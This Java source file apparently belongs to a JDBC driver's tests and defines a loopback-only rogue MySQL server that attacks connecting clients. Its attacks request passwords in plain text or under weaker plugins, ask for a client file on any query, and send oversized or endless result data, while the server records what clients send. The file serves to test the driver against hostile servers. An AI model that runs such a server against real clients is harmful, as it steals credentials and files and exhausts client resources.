package dev.backstop.jdbc;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.concurrent.atomic.AtomicInteger;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLSocket;
import org.jspecify.annotations.Nullable;

/** Server that speaks enough of MySQL's protocol to attack its client. */
final class RogueServer implements AutoCloseable {

  /** What it tries. */
  enum Attack {
    /** Asks for the password in plain text. */
    PASSWORD("mysql_clear_password"),
    /** Asks for the password, encrypted by a key of the server. */
    PASSWORD_BY_KEY("sha256_password"),
    /** Asks for the password in plain text, as a server without a cached hash does. */
    PASSWORD_UNCACHED("caching_sha2_password"),
    /** Refuses the login: the account is locked. */
    LOCKED("mysql_native_password"),
    /** Asks for another login without end. */
    LOGIN_AGAIN("mysql_native_password"),
    /** Asks for a file of the client in response to any query. */
    FILE("mysql_native_password"),
    /** Announces 60,000,000 columns. */
    COLUMNS("mysql_native_password"),
    /** Announces a text of 2 GB in a packet of some bytes. */
    LONG_TEXT("mysql_native_password"),
    /** Sends rows without end. */
    ENDLESS_ROWS("mysql_native_password");

    private final String plugin;

    Attack(String plugin) {
      this.plugin = plugin;
    }

    boolean acceptsLogin() {
      return switch (this) {
        case FILE, COLUMNS, LONG_TEXT, ENDLESS_ROWS -> true;
        case PASSWORD, PASSWORD_BY_KEY, PASSWORD_UNCACHED, LOCKED, LOGIN_AGAIN -> false;
      };
    }
  }

  private final ServerSocket listening = new ServerSocket(0, 8, InetAddress.getLoopbackAddress());
  private final ByteArrayOutputStream received = new ByteArrayOutputStream();
  private final @Nullable SSLContext tls;
  private final AtomicInteger clients = new AtomicInteger();
  private final Attack attack;
  private final String file;

  RogueServer(Attack attack, String file, @Nullable SSLContext tls) throws IOException {
    this.tls = tls;
    this.attack = attack;
    this.file = file;
    Thread thread = new Thread(this::accept, "false-server");
    thread.setDaemon(true);
    thread.start();
  }

  int port() {
    return listening.getLocalPort();
  }

  /** Returns all that clients sent, one character for each byte. */
  String received() {
    return received.toString(StandardCharsets.ISO_8859_1);
  }

  private void accept() {
    while (!listening.isClosed()) {
      try (Socket client = listening.accept()) {
        clients.incrementAndGet();
        client.setSoTimeout(5_000);
        serve(client);
      } catch (IOException e) {
        // The client has closed the connection, as it should.
      }
    }
  }

  private void serve(Socket plain) throws IOException {
    send(plain, 0, greeting(tls != null));
    if (tls == null) {
      talk(plain);
      return;
    }
    // Not one byte more than the request for TLS is read: what follows is TLS.
    plain.getInputStream().readNBytes(36);
    SSLSocket encrypted =
        (SSLSocket) tls.getSocketFactory().createSocket(plain, InputStream.nullInputStream(), true);
    talk(encrypted);
  }

  private void talk(Socket client) throws IOException {
    DataInputStream in = new DataInputStream(client.getInputStream());
    int sequence = read(in) + 1;
    if (attack.acceptsLogin()) {
      send(client, sequence, new byte[] {0, 0, 0, 2, 0, 0, 0});
      while (true) {
        sequence = read(in) + 1;
        answer(client, sequence);
      }
    }
    if (attack == Attack.LOCKED) {
      send(client, sequence, text("\u00ff.\u000c#HY000User locked"));
      return;
    }
    byte[] another = text((char) 0xfe + attack.plugin + "\0" + "01234567890123456789\0");
    send(client, sequence, another);
    while (true) {
      int answered = read(in) + 1;
      if (attack == Attack.LOGIN_AGAIN) {
        send(client, answered, another);
      }
      if (attack == Attack.PASSWORD_UNCACHED) {
        send(client, answered, text("\1\4"));
      }
    }
  }

  private void answer(Socket client, int sequence) throws IOException {
    switch (attack) {
      case FILE -> send(client, sequence, text((char) 0xfb + file));
      case COLUMNS -> send(client, sequence, text("\u00fe\0\u0087\u0093\3\0\0\0\0"));
      case LONG_TEXT -> {
        int row = column(client, sequence);
        send(client, row, text("\u00fe\u00ff\u00ff\u00ff\u007f\0\0\0\0"));
      }
      case ENDLESS_ROWS -> {
        int row = column(client, sequence);
        while (true) {
          ByteArrayOutputStream many = new ByteArrayOutputStream();
          for (int i = 0; i < 10_000; i++) {
            many.writeBytes(packet(row++, text("\u00fb")));
          }
          client.getOutputStream().write(many.toByteArray());
        }
      }
      default -> throw new IllegalStateException("no login is accepted for " + attack);
    }
  }

  /** Sends the beginning of an answer with one column; returns the next number. */
  private static int column(Socket client, int sequence) throws IOException {
    send(client, sequence, text("\1"));
    String definition = "\3def\0\0\0\1n\0\f\77\0\5\0\0\0\u00fd\0\0\0\0\0";
    send(client, sequence + 1, text(definition));
    send(client, sequence + 2, text("\u00fe\0\0\2\0"));
    return sequence + 3;
  }

  /** Returns how many clients connected. */
  int clients() {
    return clients.get();
  }

  private int read(DataInputStream in) throws IOException {
    byte[] header = in.readNBytes(4);
    if (header.length < 4) {
      throw new IOException("the client closed the connection");
    }
    int length = (header[0] & 0xff) + ((header[1] & 0xff) << 8) + ((header[2] & 0xff) << 16);
    received.write(in.readNBytes(length));
    return header[3];
  }

  private static void send(Socket client, int sequence, byte[] payload) throws IOException {
    client.getOutputStream().write(packet(sequence, payload));
    client.getOutputStream().flush();
  }

  private static byte[] packet(int sequence, byte[] payload) {
    byte[] packet = new byte[payload.length + 4];
    packet[0] = (byte) payload.length;
    packet[1] = (byte) (payload.length >> 8);
    packet[3] = (byte) sequence;
    System.arraycopy(payload, 0, packet, 4, payload.length);
    return packet;
  }

  /** Offers everything but DEPRECATE_EOF: LOCAL FILES and all plugins as well. */
  private static byte[] greeting(boolean tls) {
    return text(
        "\n5.7.25-OceanBase-v3.2.3.1\0"
            + "\1\0\0\0"
            + "01234567\0"
            + (tls ? "\u00ff\u00ff" : "\u00ff\u00f7")
            + "\55"
            + "\2\0"
            + "\17\0"
            + "\25"
            + "\0\0\0\0\0\0\0\0\0\0"
            + "890123456789\0"
            + "mysql_native_password\0");
  }

  private static byte[] text(String bytes) {
    return Arrays.copyOf(bytes.getBytes(StandardCharsets.ISO_8859_1), bytes.length());
  }

  @Override
  public void close() {
    try {
      listening.close();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
